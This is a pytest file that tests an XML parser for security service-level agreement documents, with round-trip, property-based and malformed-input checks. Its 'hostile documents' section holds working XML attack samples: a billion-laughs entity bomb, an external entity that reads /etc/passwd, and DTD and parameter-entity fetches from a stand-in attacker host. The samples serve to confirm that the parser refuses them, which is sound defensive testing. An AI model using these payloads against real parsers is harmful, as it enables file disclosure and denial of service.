"""SSLA documents: XML round trip, hand-written documents, hostile and malformed XML."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from secmas.policy.ssla import (
    MAX_DOCUMENT,
    NAMESPACE,
    SSLA,
    Action,
    ActionKind,
    GuaranteeTerm,
    Indicator,
    NamedSet,
    SetKind,
    Source,
    SourceKind,
    SSLAError,
    from_xml,
    load_ssla,
    to_xml,
)

# Figure 3 of 004_… (Section 3.1) written in this module's scheme, comments included.
FIGURE_3 = """\
<?xml version="1.0" encoding="UTF-8"?>
<ServiceLevelAgreement xmlns="urn:secmas:ssla:1" id="SLA-Slice-Isolation">
  <intent>slice-isolated</intent>
  <slice>cameras</slice>
  <!-- The specific guarantee term for isolation -->
  <guaranteeTerm>
    <name>NetworkSliceIsolationAndWhitelisting</name>
    <serviceLevelObjective>100 % of packets from permitted sources</serviceLevelObjective>
    <serviceLevelIndicator>
      <kpiName>InvalidSourcePacketCount</kpiName>
      <kpiFormula>
        <!-- count of packets with source IP NOT in the whitelist -->
        COUNT(ingress packets WHERE source ip NOT IN whitelist)
      </kpiFormula>
      <unit>packets</unit>
      <measurementSource>
        <kind>stream</kind>
        <name>ingress</name>
        <collector>Distributed Security Monitoring Function</collector>
      </measurementSource>
      <period>0.5</period>
      <namedSet name="whitelist" kind="prefixes">
        <value>10.20.0.0/16</value>
        <value>192.0.2.7</value>
      </namedSet>
    </serviceLevelIndicator>
    <breachCondition>
      <!-- a single non-whitelisted packet is a breach -->
      <formula>InvalidSourcePacketCount &gt; 0</formula>
    </breachCondition>
    <remediationAction>
      <action><kind>NOTIFY</kind><target>SecurityOrchestrator</target></action>
      <action><kind>LOG</kind><target>AuditLog</target></action>
      <action>
        <kind>REJECT_PACKET</kind>
        <target>cameras</target>
        <detail>immediate enforcement</detail>
      </action>
    </remediationAction>
  </guaranteeTerm>
</ServiceLevelAgreement>
"""


def refused(text: str) -> str:
    with pytest.raises(SSLAError) as info:
        from_xml(text, "s.xml")
    message = str(info.value)
    assert "\n" not in message
    return message


def test_figure_3_parses() -> None:
    ssla = from_xml(FIGURE_3)
    assert (ssla.id, ssla.intent, ssla.slice) == (
        "SLA-Slice-Isolation",
        "slice-isolated",
        "cameras",
    )
    [term] = ssla.terms
    assert term.indicator.formula == "COUNT(ingress packets WHERE source ip NOT IN whitelist)"
    assert term.indicator.source == Source(
        SourceKind.STREAM, "ingress", "Distributed Security Monitoring Function"
    )
    assert term.indicator.period == 0.5
    assert term.indicator.sets == (
        NamedSet("whitelist", SetKind.PREFIXES, ("10.20.0.0/16", "192.0.2.7")),
    )
    whitelist = term.indicator.set_members()["whitelist"]
    assert "10.20.3.4" in whitelist and "192.0.2.7" in whitelist
    assert "192.0.2.8" not in whitelist and "not an address" not in whitelist
    assert term.breach == "InvalidSourcePacketCount > 0"
    assert [a.kind for a in term.remediation] == [
        ActionKind.NOTIFY,
        ActionKind.LOG,
        ActionKind.REJECT_PACKET,
    ]
    assert term.remediation[2].detail == "immediate enforcement"
    assert term.remediation[0].detail == ""
    assert from_xml(to_xml(ssla)) == ssla


def test_without_namespace_is_accepted() -> None:
    plain = FIGURE_3.replace(' xmlns="urn:secmas:ssla:1"', "")
    assert from_xml(plain) == from_xml(FIGURE_3)


def test_written_document_is_namespaced() -> None:
    text = to_xml(from_xml(FIGURE_3))
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>')
    assert f'<ServiceLevelAgreement xmlns="{NAMESPACE}" id="SLA-Slice-Isolation">' in text
    assert "<formula>InvalidSourcePacketCount &gt; 0</formula>" in text


def test_load_ssla(tmp_path: Path) -> None:
    path = tmp_path / "f3.xml"
    path.write_text(FIGURE_3)
    assert load_ssla(str(path)).id == "SLA-Slice-Isolation"
    with pytest.raises(SSLAError, match="cannot read file"):
        load_ssla(str(tmp_path / "none.xml"))


# --- round trip ----------------------------------------------------------------------------

_WORDS = st.text(
    alphabet=st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")),
    min_size=1,
    max_size=30,
)
TEXT = _WORDS.map(str.strip).filter(bool)
_RESERVED = {"WHERE", "AND", "OR", "NOT", "IN", "TRUE", "FALSE"}
_AGGREGATES = {"COUNT", "RATE", "SUM", "AVG", "MAX", "MIN"}
KPI = st.from_regex(r"[A-Za-z][A-Za-z0-9_]{0,15}", fullmatch=True).filter(
    lambda name: name.upper() not in _RESERVED | _AGGREGATES
)
FORMULAS = st.sampled_from(
    [
        "COUNT(packets WHERE source_ip NOT IN whitelist) == 0",
        "COUNT(ingress packets WHERE source ip NOT IN whitelist)",
        "availability >= 99.95",
        "RATE(flows WHERE dst_port IN [80, 443] AND proto == 'tcp') < 1000",
        "SUM(flows.bytes WHERE NOT (src == dst OR flag == TRUE)) <= 1e9",
    ]
)


@st.composite
def terms(draw: st.DrawFn, name: str) -> GuaranteeTerm:
    kpi = draw(KPI)
    indicator = Indicator(
        kpi=kpi,
        formula=draw(FORMULAS),
        unit=draw(TEXT),
        source=Source(draw(st.sampled_from(SourceKind)), draw(TEXT), draw(TEXT)),
        period=draw(st.floats(min_value=1e-3, max_value=1e6, allow_nan=False)),
        sets=(NamedSet("whitelist", SetKind.PREFIXES, ("10.1.0.0/16",)),),
    )
    op = draw(st.sampled_from(["<", ">", "<=", ">=", "==", "!="]))
    subject = draw(st.sampled_from([kpi, "value"]))
    breach = f"{subject} {op} {draw(st.integers(min_value=-(10**6), max_value=10**6))}"
    actions = st.builds(Action, st.sampled_from(ActionKind), TEXT, st.one_of(st.just(""), TEXT))
    remediation = tuple(draw(st.lists(actions, min_size=1, max_size=4)))
    return GuaranteeTerm(name, draw(TEXT), indicator, breach, remediation)


@st.composite
def sslas(draw: st.DrawFn) -> SSLA:
    names = draw(st.lists(TEXT, min_size=1, max_size=3, unique=True))
    return SSLA(draw(TEXT), draw(TEXT), draw(TEXT), tuple(draw(terms(name)) for name in names))


@settings(max_examples=150, deadline=None)
@given(sslas())
def test_round_trip(ssla: SSLA) -> None:
    assert from_xml(to_xml(ssla)) == ssla


# --- hostile documents -----------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ServiceLevelAgreement id="x"><intent>&lol9;</intent></ServiceLevelAgreement>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<ServiceLevelAgreement id="x"><intent>&secret;</intent></ServiceLevelAgreement>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE ServiceLevelAgreement SYSTEM "http://attacker.invalid/ssla.dtd">
<ServiceLevelAgreement id="x"/>
"""
INTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE ServiceLevelAgreement [<!ELEMENT ServiceLevelAgreement ANY>]>
<ServiceLevelAgreement id="x"/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<ServiceLevelAgreement id="x"/>
"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, INTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "internal-dtd", "parameter"],
)
def test_hostile_documents_are_refused_without_expansion(document: str) -> None:
    started = time.perf_counter()
    message = refused(document)
    assert time.perf_counter() - started < 1.0
    assert message.startswith("s.xml: refused:") and "DTD" in message
    assert "lollol" not in message and "root:" not in message


def test_oversized_document() -> None:
    message = refused("<a>" + " " * MAX_DOCUMENT + "</a>")
    assert "larger than" in message


# --- malformed documents -----------------------------------------------------------------------

TERM = "ServiceLevelAgreement/guaranteeTerm[1]"
INDICATOR = f"{TERM}/serviceLevelIndicator"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "<unit>packets</unit>",
            "<colour>red</colour><unit>packets</unit>",
            f"element <{INDICATOR}/colour>: unexpected element; expected <kpiName>",
        ),
        (
            "<period>0.5</period>",
            "",
            f"element <{INDICATOR}/period>: missing",
        ),
        (
            "<period>0.5</period>",
            "<period>-3</period>",
            f"element <{INDICATOR}/period>: bad period '-3'",
        ),
        (
            "<period>0.5</period>",
            "<period>nan</period>",
            f"element <{INDICATOR}/period>: bad period 'nan'",
        ),
        (
            "<period>0.5</period>",
            "<period>soon</period>",
            f"element <{INDICATOR}/period>: bad period 'soon'",
        ),
        (
            "<kind>LOG</kind>",
            "<kind>DELETE</kind>",
            f"element <{TERM}/remediationAction/action[2]/kind>: unknown action kind 'DELETE'",
        ),
        (
            "<kind>stream</kind>",
            "<kind>pigeon</kind>",
            f"element <{INDICATOR}/measurementSource/kind>: unknown source kind 'pigeon'",
        ),
        (
            "COUNT(ingress packets WHERE source ip NOT IN whitelist)",
            "COUNT(ingress packets WHERE source ip = 1)",
            f"element <{INDICATOR}/kpiFormula>: invalid KPI formula at column 39: use '=='",
        ),
        (
            "InvalidSourcePacketCount &gt; 0",
            "InvalidSourcePacketCount &gt;",
            f"element <{TERM}/breachCondition/formula>: invalid breach condition at column 27: "
            "expected a number after '>'",
        ),
        (
            "InvalidSourcePacketCount &gt; 0",
            "OtherCount &gt; 0",
            f"element <{TERM}/breachCondition/formula>: breach condition refers to 'OtherCount'",
        ),
        (
            "InvalidSourcePacketCount &gt; 0",
            "COUNT(packets) &gt; 0",
            f"element <{TERM}/breachCondition/formula>: expected a comparison of",
        ),
        (
            "<unit>packets</unit>",
            "<unit>packets</unit><unit>bytes</unit>",
            f"element <{INDICATOR}/unit>: repeated",
        ),
        ("<unit>packets</unit>", "<unit> </unit>", f"element <{INDICATOR}/unit>: empty"),
        (
            "<intent>slice-isolated</intent>",
            "<intent><b>x</b></intent>",
            "element <ServiceLevelAgreement/intent>: unexpected child element",
        ),
        (
            "<slice>cameras</slice>",
            "<slice>cameras</slice>stray",
            "element <ServiceLevelAgreement>: unexpected text after <slice>",
        ),
        (' id="SLA-Slice-Isolation"', "", "element <ServiceLevelAgreement>: missing attribute"),
        (
            ' id="SLA-Slice-Isolation"',
            ' id="a" version="2"',
            "element <ServiceLevelAgreement>: unexpected attribute 'version'",
        ),
        (
            "<remediationAction>",
            "<remediationAction xmlns='urn:other'>",
            f"element <{TERM}/remediationAction>: namespace 'urn:other'",
        ),
    ],
)
def test_malformed_documents_name_the_element(old: str, new: str, expected: str) -> None:
    assert old in FIGURE_3
    message = refused(FIGURE_3.replace(old, new, 1))
    assert message.startswith(f"s.xml: {expected}"), message


def test_missing_term_parts() -> None:
    for part in ("serviceLevelIndicator", "breachCondition", "remediationAction"):
        start = FIGURE_3.index(f"<{part}>")
        end = FIGURE_3.index(f"</{part}>") + len(f"</{part}>")
        message = refused(FIGURE_3[:start] + FIGURE_3[end:])
        assert message == f"s.xml: element <{TERM}/{part}>: missing"


def test_no_terms_no_actions_duplicate_terms() -> None:
    start, end = FIGURE_3.index("<guaranteeTerm>"), FIGURE_3.index("</ServiceLevelAgreement>")
    assert "guaranteeTerm>: missing; expected at least one" in refused(
        FIGURE_3[:start] + FIGURE_3[end:]
    )
    start, end = FIGURE_3.index("<action>"), FIGURE_3.index("</remediationAction>")
    assert "remediationAction/action>: missing; expected at least one" in refused(
        FIGURE_3[:start] + FIGURE_3[end:]
    )
    term = FIGURE_3[FIGURE_3.index("<guaranteeTerm>") : FIGURE_3.index("</ServiceLevelAgreement>")]
    twice = FIGURE_3.replace(term, term + term)
    assert refused(twice) == (
        "s.xml: element <ServiceLevelAgreement/guaranteeTerm[2]/name>: duplicate term "
        "'NetworkSliceIsolationAndWhitelisting'"
    )


def test_wrong_root() -> None:
    assert refused("<SLA id='x'/>").startswith("s.xml: element <SLA>: unexpected root element")


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        ("<ServiceLevelAgreement id='x'>", "s.xml:1:31: not well-formed XML: no element found"),
        ("", "s.xml:1:1: not well-formed XML: no element found"),
        ("<a>\n  <b></a>", "s.xml:2:8: not well-formed XML: mismatched tag"),
        ("just text", "s.xml:1:1: not well-formed XML: syntax error"),
    ],
)
def test_not_well_formed(document: str, expected: str) -> None:
    assert refused(document) == expected


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "<value>192.0.2.7</value>",
            "<value>192.0.2.300</value>",
            "namedSet[1]/value[2]>: not an IP address or CIDR prefix: '192.0.2.300'",
        ),
        ('kind="prefixes"', 'kind="colours"', "unknown set kind 'colours'"),
        ('name="whitelist"', 'name="white list"', "bad or missing attribute 'name'"),
        ('name="whitelist"', 'name="allowed"', "uses the named set 'whitelist', which no"),
        ('kind="prefixes"', 'kind="prefixes" size="2"', "unexpected attribute 'size'"),
        ("<value>192.0.2.7</value>", "<value></value>", "namedSet[1]/value>: empty"),
    ],
)
def test_named_set_refused(old: str, new: str, expected: str) -> None:
    assert old in FIGURE_3
    assert expected in refused(FIGURE_3.replace(old, new, 1))


def test_named_set_repeated_refused() -> None:
    named = '<namedSet name="whitelist" kind="values"><value>a</value></namedSet>'
    text = FIGURE_3.replace("</serviceLevelIndicator>", named + "</serviceLevelIndicator>", 1)
    assert "namedSet[2]>: duplicate set 'whitelist'" in refused(text)
